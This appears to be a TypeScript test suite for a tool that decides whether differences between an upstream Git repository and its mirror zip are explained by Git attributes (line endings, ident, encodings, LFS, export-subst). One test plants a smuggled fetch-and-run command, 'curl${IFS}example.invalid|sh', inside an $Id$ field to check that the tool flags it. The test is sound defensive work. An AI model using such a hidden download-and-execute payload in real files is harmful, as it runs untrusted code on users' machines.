import { Buffer } from 'node:buffer';
import { blobId, sha256Hex } from '../../../server/src/dirhash/index.ts';
import { describe, expect, test } from '../../kit.ts';
import { compare, crlf, inShort, judged, outcome, PLAIN, withFile } from './copies.ts';

describe('attributes explain', () => {
  test('line ends, from the mirror alone', async () => {
    const { comparison, asked } = await withFile('file eol=crlf\n', 'a\nb\n', 'a\r\nb\r\n');
    expect(inShort(comparison)).toEqual({ file: 'line-endings' });
    expect(asked).toEqual([['file eol=crlf\n']]);
  });

  test('line ends of a blob that has both kinds, with that one blob fetched', async () => {
    const { comparison, asked } = await withFile('* -text\nfile text eol=crlf\n', 'a\r\nb\n', 'a\r\nb\r\n');
    expect(inShort(comparison)).toEqual({ file: 'line-endings' });
    expect(asked).toEqual([['* -text\nfile text eol=crlf\n'], ['a\r\nb\n']]);
  });

  test('ident, expanded once or anew', async () => {
    for (const content of ['// $Id$\n', '// $Id: 0123456789012345678901234567890123456789 $\n']) {
      const id = blobId(Buffer.from(content), 'sha1');
      expect(await judged('file ident\n', content, `// $Id: ${id} $\n`)).toEqual({ file: 'ident' });
    }
  });

  test('encodings, in either byte order where the name leaves it open', async () => {
    const little = Buffer.from('\ufeffzwei ä\n', 'utf16le');
    const big = Buffer.from(little).swap16();
    expect(await judged('file working-tree-encoding=UTF-16\n', 'zwei ä\n', little)).toEqual({
      file: 'encoding',
    });
    expect(await judged('file working-tree-encoding=UTF-16\n', 'zwei ä\n', big)).toEqual({
      file: 'encoding',
    });
    expect(await judged('file working-tree-encoding=UTF-16LE-BOM\n', 'zwei ä\n', big)).toEqual({
      changed: ['file'],
    });
    const latin = Buffer.from('zwei ä\n', 'latin1');
    expect(await judged('file working-tree-encoding=ISO-8859-1\n', 'zwei ä\n', latin)).toEqual({
      file: 'encoding',
    });
  });

  test('several conversions at once', async () => {
    const id = blobId(Buffer.from('$Id$\nä\n'), 'sha1');
    const mirror = Buffer.from(`\ufeff$Id: ${id} $\r\nä\r\n`, 'utf16le');
    const attributes = 'file ident eol=crlf working-tree-encoding=UTF-16\n';
    expect(await judged(attributes, '$Id$\nä\n', mirror)).toEqual({ file: 'attributes' });
  });

  test('files of a sub-directory by the attributes of the root', async () => {
    const upstream = { '.gitattributes': '*.txt eol=crlf\n', 'sub/go.mod': 'module m\n', 'sub/a.txt': 'a\n' };
    const mirror = { 'go.mod': 'module m\n', 'a.txt': 'a\r\n' };
    expect(await outcome(upstream, mirror, { directory: 'sub' })).toEqual({ 'a.txt': 'line-endings' });
  });

  test('an attribute file that converts itself', async () => {
    const attributes = '* text=auto eol=crlf\n';
    const upstream = { ...PLAIN, '.gitattributes': attributes };
    const mirror = Object.fromEntries(
      Object.entries(upstream).map(([path, content]) => [path, crlf(String(content))]),
    );
    const causes = Object.fromEntries(Object.keys(upstream).map((path) => [path, 'line-endings']));
    expect(await outcome(upstream, mirror)).toEqual(causes);
  });
});

describe('attributes do not explain', () => {
  test('a change under cover of line ends', async () => {
    expect(await judged('file eol=crlf\n', 'a\nb\n', 'a\r\nEVIL\r\n')).toEqual({ changed: ['file'] });
    expect(await judged('file text=auto eol=crlf\n', 'a\nb\n', 'a\r\nb\r\nEVIL\r\n')).toEqual({
      changed: ['file'],
    });
  });

  test('line ends that were converted in part, or where git would not', async () => {
    expect(await judged('file eol=crlf\n', 'a\nb\n', 'a\r\nb\n')).toEqual({ changed: ['file'] });
    expect(await judged('file text=auto eol=crlf\n', 'a\0\nb\n', 'a\0\r\nb\r\n')).toEqual({
      changed: ['file'],
    });
    expect(await judged('file -text\n', 'a\nb\n', 'a\r\nb\r\n')).toEqual({ changed: ['file'] });
  });

  test('a text hidden in the place of an id', async () => {
    const hidden = '// $Id: curl${IFS}example.invalid|sh $\n';
    expect(await judged('file ident\n', '// $Id$\n', hidden)).toEqual({ changed: ['file'] });
    const wrong = `// $Id: ${'0'.repeat(40)} $\n`;
    expect(await judged('file ident\n', '// $Id$\n', wrong)).toEqual({ changed: ['file'] });
  });

  test('another text in the right encoding', async () => {
    const mirror = Buffer.from('\ufeffböse\n', 'utf16le');
    expect(await judged('file working-tree-encoding=UTF-16\n', 'gut\n', mirror)).toEqual({
      changed: ['file'],
    });
  });

  test('a file whose attributes are elsewhere', async () => {
    const upstream = { ...PLAIN, 'other/.gitattributes': '* eol=crlf\n', file: 'a\n' };
    expect(await outcome(upstream, { ...upstream, file: 'a\r\n' })).toEqual({ changed: ['file'] });
    const { comparison, asked } = await compare(upstream, { ...upstream, file: 'b\n' });
    expect(inShort(comparison)).toEqual({ changed: ['file'] });
    expect(asked).toEqual([]);
  });

  test('a lent licence, which is never converted', async () => {
    const upstream = { '.gitattributes': '* eol=crlf\n', LICENSE: 'Yes.\n', 'sub/go.mod': 'module m\n' };
    const mirror = { 'go.mod': 'module m\n', LICENSE: 'Yes.\r\n' };
    expect(await outcome(upstream, mirror, { directory: 'sub' })).toEqual({ changed: ['LICENSE'] });
  });
});

describe('Git LFS', () => {
  const content = 'a large picture';
  const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${sha256Hex(Buffer.from(content))}\nsize ${content.length}\n`;
  const lfs = '*.png filter=lfs diff=lfs merge=lfs -text\nfile filter=lfs -text\n';

  test('explains the very content that the pointer names', async () => {
    const { comparison, asked } = await withFile(lfs, pointer, content);
    expect(inShort(comparison)).toEqual({ file: 'lfs-content' });
    expect(asked).toEqual([[lfs]]);
  });

  test('explains it for pointers in other words, with that one blob fetched', async () => {
    const other = pointer.replace('\noid', '\next-0-foo sha256:00\noid');
    const { comparison, asked } = await withFile(lfs, other, content);
    expect(inShort(comparison)).toEqual({ file: 'lfs-content' });
    expect(asked).toEqual([[lfs], [other]]);
  });

  test('explains no other content, and none where no attribute asks for it', async () => {
    expect(await judged(lfs, pointer, 'another picture')).toEqual({
      changed: ['file'],
      hints: ['file filter'],
    });
    expect(await judged('* -text\n', pointer, content)).toEqual({ changed: ['file'] });
    expect(await judged('file export-subst\n', pointer, content)).toEqual({ changed: ['file'] });
    expect(await judged(lfs, content, pointer)).toEqual({ changed: ['file'], hints: ['file filter'] });
  });
});

describe('a zip with the line ends of Windows', () => {
  const upstream = { ...PLAIN, 'x.bin': 'a\0\n', 'old.txt': 'has\r\nboth\n' };
  const mirror = Object.fromEntries(
    Object.entries(upstream).map(([path, text]) => [
      path,
      /[\0\r]/.test(String(text)) ? text : crlf(String(text)),
    ]),
  );

  test('is explained when every text file has them', async () => {
    expect(await outcome(upstream, mirror)).toEqual({
      'README.md': 'builder-line-endings',
      'go.mod': 'builder-line-endings',
      'm.go': 'builder-line-endings',
    });
  });

  test('is explained beside what Git LFS and attributes explain', async () => {
    const content = 'a large picture';
    const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${sha256Hex(Buffer.from(content))}\nsize ${content.length}\n`;
    const attributes = '*.png filter=lfs -text\n*.bat text eol=crlf\n';
    const more = { '.gitattributes': attributes, 'a.png': pointer, 'a.bat': 'x\n' };
    const made = { '.gitattributes': crlf(attributes), 'a.png': content, 'a.bat': 'x\r\n' };
    expect(await outcome({ ...upstream, ...more }, { ...mirror, ...made })).toEqual({
      '.gitattributes': 'builder-line-endings',
      'README.md': 'builder-line-endings',
      'a.bat': 'line-endings',
      'a.png': 'lfs-content',
      'go.mod': 'builder-line-endings',
      'm.go': 'builder-line-endings',
    });
  });

  test('is not explained when anything else differs', async () => {
    expect(
      await outcome(upstream, { ...mirror, 'm.go': crlf('package m\n\nfunc F() { evil() }\n') }),
    ).toMatchObject({
      changed: ['README.md', 'go.mod', 'm.go'],
    });
    expect(await outcome(upstream, { ...mirror, 'new.go': 'package m\r\n' })).toMatchObject({
      onlyMirror: ['new.go'],
    });
  });
});

describe('attributes of the machine that built the zip', () => {
  const upstream = { ...PLAIN, 'a.txt': 'a\n', 'b.txt': 'b\n', 'x.bin': 'a\0\n', LICENSE: 'Yes.\n' };

  test('explain line ends in all files of a kind', async () => {
    expect(await outcome(upstream, { ...upstream, 'a.txt': 'a\r\n', 'b.txt': 'b\r\n' })).toEqual({
      'a.txt': 'builder-attributes',
      'b.txt': 'builder-attributes',
    });
    expect(await outcome(upstream, { ...upstream, LICENSE: 'Yes.\r\n', 'x.bin': 'a\0\r\n' })).toEqual({
      LICENSE: 'builder-attributes',
      'x.bin': 'builder-attributes',
    });
  });

  test('explain ident, alone and with line ends', async () => {
    const content = '// $Id$\n';
    const id = blobId(Buffer.from(content), 'sha1');
    const blobs = { ...PLAIN, 'a.sh': content, 'b.sh': 'b\n' };
    expect(await outcome(blobs, { ...blobs, 'a.sh': `// $Id: ${id} $\n` })).toEqual({
      'a.sh': 'builder-attributes',
    });
    expect(await outcome(blobs, { ...blobs, 'a.sh': `// $Id: ${id} $\r\n`, 'b.sh': 'b\r\n' })).toEqual({
      'a.sh': 'builder-attributes',
      'b.sh': 'builder-attributes',
    });
  });

  test('do not explain the line ends of a single file', async () => {
    expect(await outcome(upstream, { ...upstream, 'm.go': crlf(String(PLAIN['m.go'])) })).toEqual({
      changed: ['m.go'],
    });
  });

  test('do not explain a kind in which one file has them and another has not', async () => {
    expect(await outcome(upstream, { ...upstream, 'a.txt': 'a\r\n', LICENSE: 'Yes.\r\n' })).toEqual({
      changed: ['LICENSE', 'a.txt'],
    });
    const ids = { ...PLAIN, 'a.sh': '# $Id$\n', 'b.sh': '# $Id$ too\n' };
    const id = blobId(Buffer.from(ids['a.sh']), 'sha1');
    expect(await outcome(ids, { ...ids, 'a.sh': `# $Id: ${id} $\n` })).toEqual({ changed: ['a.sh'] });
  });

  test('do not explain what upstream forbids', async () => {
    const kept = { ...upstream, '.gitattributes': '*.txt -text -ident\n' };
    const made = { ...kept, 'a.txt': 'a\r\n', 'b.txt': 'b\r\n' };
    expect(await outcome(kept, made)).toEqual({ changed: ['a.txt', 'b.txt'] });
    const one = { ...upstream, '.gitattributes': 'a.txt -text\n', 'c.txt': 'c\n' };
    expect(await outcome(one, { ...one, 'b.txt': 'b\r\n', 'c.txt': 'c\r\n' })).toEqual({
      'b.txt': 'builder-attributes',
      'c.txt': 'builder-attributes',
    });
  });

  test('do not explain anything beside a difference of another sort', async () => {
    const made = { ...upstream, 'a.txt': 'a\r\n', 'b.txt': 'b\r\n' };
    expect(await outcome(upstream, { ...made, 'm.go': 'package m\n' })).toEqual({
      changed: ['a.txt', 'b.txt', 'm.go'],
    });
    expect(await outcome(upstream, { ...made, 'c.txt': 'c\r\n' })).toEqual({
      changed: ['a.txt', 'b.txt'],
      onlyMirror: ['c.txt'],
    });
    expect(await outcome(upstream, { ...made, 'b.txt': 'b\r\nc\r\n' })).toEqual({
      changed: ['a.txt', 'b.txt'],
    });
    expect(await outcome(upstream, { ...made, 'b.txt': 'b\r\r\n' })).toEqual({ changed: ['a.txt', 'b.txt'] });
  });

  test('do not explain a lent licence', async () => {
    const lent = { LICENSE: 'Yes.\n', 'sub/go.mod': 'module m\n' };
    const made = { 'go.mod': 'module m\n', LICENSE: 'Yes.\r\n' };
    expect(await outcome(lent, made, { directory: 'sub' })).toEqual({ changed: ['LICENSE'] });
  });
});

describe('causes that are named but not forgiven', () => {
  test('export-ignore, of the file or of a directory', async () => {
    const upstream = {
      ...PLAIN,
      '.gitattributes': 'docs/ export-ignore\nx.txt export-ignore\n',
      'docs/a.md': 'a\n',
      'x.txt': 'x\n',
      'y.txt': 'y\n',
    };
    const mirror = { ...PLAIN, '.gitattributes': upstream['.gitattributes'] };
    expect(await outcome(upstream, mirror)).toEqual({
      onlyUpstream: ['docs/a.md', 'x.txt', 'y.txt'],
      hints: ['docs/a.md export-ignore', 'x.txt export-ignore'],
    });
  });

  test('export-subst, when the rest of the file is equal', async () => {
    const blob = 'const V = "$Format:%H$" // $Format:%d$\n';
    const exported = 'const V = "0123abcd" //  (tag: v1)\n';
    expect(await judged('file export-subst\n', blob, exported)).toEqual({
      changed: ['file'],
      hints: ['file export-subst'],
    });
    expect(await judged('file export-subst\n', blob, `EVIL\n${exported}`)).toEqual({ changed: ['file'] });
    expect(await judged('file export-subst\n', blob, `${exported}EVIL`)).toEqual({ changed: ['file'] });
    expect(await judged('* -text\n', blob, exported)).toEqual({ changed: ['file'] });
  });

  test('other filters', async () => {
    expect(await judged('file filter=git-crypt\n', 'sealed', 'open')).toEqual({
      changed: ['file'],
      hints: ['file filter'],
    });
  });
});
